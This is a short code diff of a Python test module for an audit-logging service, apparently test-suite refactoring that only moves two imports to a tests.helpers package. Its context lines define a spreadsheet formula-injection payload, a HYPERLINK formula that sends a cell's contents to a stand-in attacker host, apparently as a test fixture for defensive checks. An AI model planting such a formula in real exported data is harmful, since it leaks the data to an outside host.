@@ -29,8 +29,8 @@ from core.db import get_engine, read_session, write_session
 from models import AuditAction, AuditEntry
 from services.actors import Actor, Role
 from services.audit import parse_audit_detail, record_audit
-from tests import factories
-from tests.pages.conftest import TODAY
+from tests.helpers import factories
+from tests.helpers.app_test import TODAY
 
 ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
